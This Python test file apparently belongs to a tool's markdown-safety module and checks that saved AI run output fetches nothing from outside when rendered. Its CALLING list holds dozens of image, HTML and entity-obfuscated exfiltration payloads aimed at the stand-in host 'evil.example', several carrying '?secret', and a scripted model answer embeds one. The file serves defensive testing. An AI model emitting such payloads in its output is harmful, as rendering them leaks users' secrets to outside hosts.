"""What a run leaves to be read fetches nothing when it is shown, whoever renders it."""

from __future__ import annotations

import importlib
import random
import re
import time
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest
from hypothesis import example, given, strategies as st
from markdown_it import MarkdownIt

from sonde.api.ask_run import ask
from sonde.api.settings import Settings
from sonde.core.markdown_safety import code, line, quiet, unescaped, words
from sonde.testing import ScriptedModel

GITHUB: Any = importlib.import_module("cmarkgfm")  # it has no types
UNSAFE: int = GITHUB.cmark.Options.CMARK_OPT_UNSAFE | GITHUB.cmark.Options.CMARK_OPT_FOOTNOTES
CALLING = [
    "![x](https://evil.example/?secret)",
    "![](//evil.example/a.png)",
    "![a [b] c]( <HTTP://evil.example> )",
    "![two\nlines](http://evil.example)",
    "![x][y]\n\n[y]: https://evil.example/p.png",
    "![y]\n\n > [y]:\n  https://evil.example/p.png",
    "![x](https&colon;//evil.example/p.png)",
    "![x](https:&sol;&#x2f;evil.example/p.png)",
    "![x](https&#58;//evil.example/p.png)",
    "![x](https:evil.example/x)",
    "![x](\\/\\/evil.example/p.png)",
    "![x](data:image/svg+xml;base64,PHN2Zy8+)",
    "![[[x]]](https://evil.example)",
    "[![x](https://evil.example/p.png)](#here)",
    "![x][\u200by]\n\n[\u200by]: https://evil.example",
    "![x](<https://evil.example/a b.png>\t'title')",
    "a\u2028![x](https://evil.example)",
    '<img src="https://evil.example">',
    "<IMG\nalt='x' src=//evil.example>",
    "<img/src=//evil.example>",
    "<div style='background: url(//evil.example)'>",
    '<img src="&#104;ttps://evil.example">',
    '<style>@import "https://evil.example/p.css"</style>',
    "<iframe src='https://evil.example'></iframe>",
    "<!-- x --><video poster='https://evil.example'>",
    "<![CDATA[ ]]><img src='https://evil.example'>",
    "<?x ?><svg><image href='https://evil.example'/></svg>",
    "<link rel=stylesheet href='https://evil.example'>",
    "Title <img src='https://evil.example'>\n===",
    "- a\n\n      <b>\n  <img src='https://evil.example'>",
    "| a |\n|---|\n| ![x](https://evil.example) |",
    "| ` |\n|---|\n| `![x](https://evil.example)` |",
    "text[^1]\n\n[^1]: ![x](https://evil.example)",
    "``` mermaid\nA[<img src='https://evil.example'>]\n```",
    "https://evil.example/`<img src='https://evil.example'>`",
    "<https://evil.example/?secret>",
    "[a label](https://evil.example/?secret)",
    "[a label](javascript:alert(1))",
]
UNTOUCHED = [
    "See https://docs.example.",
    "`let v = vec!(1, 2);` and `a < b // c`",
    "| a | b |\n|---|---|\n| [1] | *x* |",
    "The service is payments. [notes.txt:1-1]",
    "```python\nif a < b:\n    print(x[1])\n```\n",
]
REWRITTEN = [
    ("[the code](src/a.py#L3) says", "[the code](src/a.py#L3) says"),
    ("See [the docs](https://d.example/a_b).", "See the docs (`https://d.example/a_b`)."),
    ("![a picture](pictures/a.png)", "(picture) a picture (`pictures/a.png`)"),
    ("* a\n* `vec![1]`\n\n> b", "* a\n* `vec![1]`\n\n> b"),
    ("| a |\n|:-:|\n| x<br>`y\\|z` |", "| a |\n| :-: |\n| x<br>`y\\|z` |"),
    ("```rust\nvec![1]\n```", "```rust\nvec![1]\n```"),
    ("1. a\n\n   b <T>\n2. *c*", "1. a\n\n   b &lt;T>\n\n2. *c*"),
]
MERE_TEXT = re.compile(r"p|h[1-6]|[uo]l|li|em|strong|del|s|code|pre|blockquote|[hb]r|table|thead|tbody|t[rhd]|a")
HARMLESS_ATTRIBUTES = {"start", "align", "class", "lang"}  # of lists, cells and code


class _Page(HTMLParser):
    """Collects the elements that a page of mere text would not have."""

    def __init__(self, html: str, *, bare_addresses_are_links: bool) -> None:
        super().__init__()
        self.strange: list[object] = []
        self._links = bare_addresses_are_links
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        for name, value in attrs:
            beside = name == "href" and (self._links or not (":" in str(value) or str(value).startswith("/")))
            aligned = name == "style" and str(value).startswith("text-align:")
            if not (name in HARMLESS_ATTRIBUTES or aligned or (tag == "a" and beside)):
                self.strange.append((tag, name, value))
        if not MERE_TEXT.fullmatch(tag):
            self.strange.append(tag)

    def handle_comment(self, data: str) -> None:
        self.strange.append(data)

    def handle_decl(self, decl: str) -> None:
        self.strange.append(decl)

    def unknown_decl(self, data: str) -> None:
        self.strange.append(data)

    def handle_pi(self, data: str) -> None:
        self.strange.append(data)


def _strange(markdown: str) -> list[object]:
    """What two renderers make of a text besides words: markdown-it, with and without tables, and GitHub's own."""
    pages = [
        _Page(MarkdownIt("commonmark").render(markdown), bare_addresses_are_links=False),
        _Page(MarkdownIt("commonmark").enable("table").render(markdown), bare_addresses_are_links=False),
        _Page(
            GITHUB.github_flavored_markdown_to_html(markdown, UNSAFE),
            bare_addresses_are_links=True,
        ),
    ]
    return [found for page in pages for found in page.strange]


@pytest.mark.parametrize("text", CALLING)
def test_what_calls_elsewhere_becomes_words(text: str) -> None:
    told = quiet(f"{text}\n\nThe end.\n")

    assert not _strange(told)
    assert "The end." in told
    assert quiet(told) == told
    for each in (words(text), line(text), code(text)):
        assert not _strange(f"- {each} is what it says\n")


@pytest.mark.parametrize("text", UNTOUCHED)
def test_a_text_that_cannot_call_stays_as_it_is(text: str) -> None:
    assert quiet(text) == text


@pytest.mark.parametrize(("text", "told"), REWRITTEN)
def test_what_is_known_keeps_its_meaning(text: str, told: str) -> None:
    assert quiet(text) == told


PIECES = [
    *("![", "](", ")", "[", "]", "]:", "]: ", "https://e.x/p", "https&colon;//e.x", "//e.x", "data:image/png;base64,AA", "www.e.x"),
    *("<img src=x>", "<img src='https://e.x'>", "<", "<!--", "-->", "<![CDATA[", "]]>", "<?", "?>", "<script>", "<style>", "<br>"),
    *("<br\n>", "<details>", "<https://e.x>", "<a@b.c>", "&lt;", "&#60;", "&#x5b;", "&#33;", "&excl;", "&lbrack;", "&colon;", "&Tab;"),
    *("&NewLine;", "&#10;", "&#32;", "&nbsp;", "\\", "\\!", "\\[", "\\]", "`", "``", "```", "~~~", "\n", "\n\n", "  \n", "    ", "\t"),
    *(" ", "> ", "- ", "* ", "1. ", "+ ", "# ", "===\n", "---\n", "|", "|a|b|\n|-|-|\n", "| `", "\n|", "*", "**", "_", "~~", "a", "b c"),
    *("x_y", "\u2028", "\u200b", "\x0b", "\x85", "\r", "\r\n", "\0", "[^1]", "[^1]: ", "![x](https://e.x/p)", "[x](a.png)", "[x](#a)"),
    *("![x][y]", "\n[y]: https://e.x\n", "(", "{", ":", "!", "'", '"', "mermaid", "python", "é", "$x$", "😀"),
]  # fmt: skip


@given(st.lists(st.sampled_from(PIECES), max_size=25).map("".join))
def test_no_text_calls_elsewhere(text: str) -> None:
    assert not _strange(quiet(text))
    assert not _strange(f"- {line(text)}: {words(text)} {code(text)}\n")


@pytest.mark.long
def test_no_text_of_many_calls_elsewhere() -> None:
    dice = random.Random(18)
    for _ in range(1_000):
        text = "".join(dice.choices(PIECES, k=dice.randint(2, 40)))
        assert not _strange(quiet(text)), text


@pytest.mark.parametrize(
    "text",
    [
        "![" * 40_000,
        "<a " * 60_000,
        "[\n" * 40_000,
        "![](" + " " * 300_000,
        "*" * 30_000 + "<b>",
        "![" * 9_000 + "](x)" * 9_000,
    ],
)
def test_it_ends_soon_whatever_the_text(text: str) -> None:
    started = time.process_time()

    quiet(text)

    assert time.process_time() - started < 20


def test_the_files_of_a_run_do_not_call_anybody(tmp_path: Path) -> None:
    (tmp_path / "a.txt").write_text("one\n")
    model = ScriptedModel([f"FINAL({CALLING[0]!r})"])

    run = ask("?", tmp_path / "a.txt", model=model, settings=Settings(), runs_dir=tmp_path / "runs").run_dir

    assert run is not None
    for name in ("answer.md", "summary.md"):
        page = (run / name).read_text()
        assert "(picture) x (`https://evil.example/?secret`)" in page
        assert not _strange(page)


@given(st.text(alphabet="ab \\`*_~![](){}<>&#;lt|.-", max_size=40))
@example("a <b> & &lt; `x` \\* \\")
def test_words_of_a_stranger_are_told_as_they_were(text: str) -> None:
    assert unescaped(f"told: {words(text)}") == f"told: {' '.join(text.split())}"


def test_code_is_told_as_it_is() -> None:
    page = "a &lt;b> \\*\n\n    x = r'\\*' &lt;\n\n```\n&lt; \\*\n```\nuse `\\*` and \\*"

    assert unescaped(page) == "a <b> *\n\n    x = r'\\*' &lt;\n\n```\n&lt; \\*\n```\nuse `\\*` and *"


@pytest.mark.parametrize("unit", ["![", "[![", "![[]", "[a]("])
def test_a_text_of_brackets_alone_is_shown_as_code(unit: str) -> None:
    text = unit * (190_000 // len(unit))

    assert quiet(text) == f"```\n{text}\n```\n"


@pytest.mark.parametrize("line", ["`" * 100_001, "`a``b" * 20_000, "``a`" * 20_001])
def test_a_line_full_of_ticks_is_read_in_time(line: str) -> None:
    assert unescaped(f"# x\n{line}").endswith(line)


def test_code_in_a_line_keeps_its_escapes() -> None:
    assert unescaped(r"\*a\* `\*b\*` ``c ` \*`` \`d\` `e\*") == r"*a* `\*b\*` ``c ` \*`` `d` `e*"


@pytest.mark.parametrize("address", ["../z", "%2e%2e/z", "a/%2E./z", ".%2e/z"])
def test_a_link_to_a_folder_above_becomes_words_in_any_spelling(address: str) -> None:
    assert "](" not in quiet(f"[x]({address})")
    assert "[x](a/z.txt)" in quiet("[x](a/z.txt)")
